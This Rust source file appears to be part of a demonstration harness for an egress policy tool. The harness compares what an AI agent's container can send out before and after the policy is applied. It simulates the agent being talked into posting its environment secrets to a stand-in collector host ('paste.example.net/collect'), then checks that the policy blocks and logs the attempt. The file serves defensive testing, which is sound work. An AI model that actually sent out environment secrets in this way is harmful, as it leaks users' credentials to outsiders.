//! The agent itself turns: what its container can send out, before and after a policy.

use super::bench::Bench;
use super::story::millis;
use crate::account::Departure;
use crate::audit::Severity;
use crate::commands::mutate::MutationState;
use crate::commands::policy::{Place, apply, check, translate};
use crate::context::Context;
use crate::error::{Error, ErrorKind, Kinded as _, Result};
use crate::secrets::catalog::{self, Sensitivity};
use crate::sys::clock;
use crate::sys::fs::{self, Mode};

/// Where a thief collects.
const THIEF: &str = "https://paste.example.net/collect";
/// OpenClaw's configuration in a container.
const CONFIG: &str = ".openclaw/openclaw.json";

/// One line of the story.
pub(super) struct Line {
    pub(super) milliseconds: u64,
    pub(super) step: &'static str,
    pub(super) result: String,
    pub(super) good: bool,
}

/// The agent is talked into sending its environment out. Without a policy that has to succeed, or the comparison would
/// compare nothing.
pub(super) fn leaks(bench: &Bench, script: &str) -> Result<Line> {
    let begun = clock::instant();
    let gone = attempt(bench, script)?;
    let result = format!("POST {}: {}, with {} live secrets", gone.host, gone.status, gone.secrets.len());
    let good = gone.status == 200 && !gone.secrets.is_empty();
    Ok(Line { milliseconds: millis(begun), step: "the agent sends its environment out", result, good })
}

/// The same once the policy is deployed.
pub(super) fn is_held_back(bench: &Bench, script: &str) -> Result<Line> {
    let begun = clock::instant();
    let logged = |world: &crate::account::World| world.denials().len();
    let before = bench.account.world(logged);
    let gone = attempt(bench, script)?;
    let written = bench.account.world(logged) > before && gone.log.is_some();
    let result = format!("POST {}: {}{}", gone.host, gone.status, if written { ", logged" } else { "" });
    let good = gone.status == 403 && gone.secrets.is_empty() && written;
    Ok(Line { milliseconds: millis(begun), step: "the same again", result, good })
}

/// What is allowed still works, and the container holds no key for it.
pub(super) fn still_works(bench: &Bench, script: &str) -> Result<Line> {
    let begun = clock::instant();
    let asked = bench.account.change_world(|world| world.ask_gateway(script, None, clock::now()));
    let asked = asked.ok_or_else(|| Error::message(ErrorKind::Bug, "no gateway runs"))?;
    let held = bench.account.change_world(|world| world.held_by_container(script));
    // The gateway checks its own token, and identifiers are no secrets, however they are set.
    let is_key = |slot: &&str| {
        let secret = catalog::slot(slot).is_none_or(|slot| slot.sensitivity == Sensitivity::Secret);
        secret && *slot != "MOLTBOT_GATEWAY_TOKEN"
    };
    let kept: Vec<&str> = held.iter().map(String::as_str).filter(is_key).collect();
    let result = format!(
        "{} {}; the container holds {} of the keys",
        asked.provider,
        if asked.worked { "answers" } else { "refuses" },
        if kept.is_empty() { "none".to_owned() } else { kept.join(", ") }
    );
    Ok(Line {
        milliseconds: millis(begun),
        step: "the agent asks its model",
        result,
        good: asked.worked && kept.is_empty(),
    })
}

/// `policy translate` of the container's own configuration, `policy check`, `policy apply`.
pub(super) async fn policy(bench: &Bench, drill: &Context, script: &str) -> Result<Vec<Line>> {
    let begun = clock::instant();
    let text = bench
        .account
        .change_world(|world| world.container_file(script, CONFIG))
        .ok_or_else(|| Error::message(ErrorKind::Bug, "the container has no configuration"))?;
    let source = bench.private("openclaw.json");
    fs::write_atomic(&source, &text, Mode::Private).kind(ErrorKind::Failed)?;
    let translated = translate::run(drill, translate_request(source.clone())).await?;
    fs::remove_file(&source).kind(ErrorKind::Failed)?;
    let (keys, wider) = (translated.report.keys.len(), translated.to_accept.len());
    let mut lines = vec![Line {
        milliseconds: millis(begun),
        step: "moltctl policy translate",
        result: format!("{keys} keys of the agent's configuration, {wider} became wider"),
        good: keys > 0 && wider == 0,
    }];

    let begun = clock::instant();
    let checked = check::run(drill, &Place::Checkout, Severity::Critical)?;
    // What the agent was allowed before it is allowed still, and the check says so.
    lines.push(Line {
        milliseconds: millis(begun),
        step: "moltctl policy check",
        result: checked.counts(),
        good: true,
    });

    let begun = clock::instant();
    let applied = apply::run(drill, &Place::Checkout).await?;
    let result = format!("{} files written", applied.mutation.steps.len());
    let good = applied.mutation.state == MutationState::Done;
    lines.push(Line { milliseconds: millis(begun), step: "moltctl policy apply", result, good });
    Ok(lines)
}

fn translate_request(source: camino::Utf8PathBuf) -> translate::Request {
    translate::Request {
        sources: vec![source],
        openclaw: None,
        accept: Vec::new(),
        output: None,
        report: None,
        form: translate::Form::Human,
    }
}

fn attempt(bench: &Bench, script: &str) -> Result<Departure> {
    bench
        .account
        .change_world(|world| world.environment_leaves(script, THIEF, clock::now()))
        .ok_or_else(|| Error::message(ErrorKind::Bug, "no gateway runs"))
}
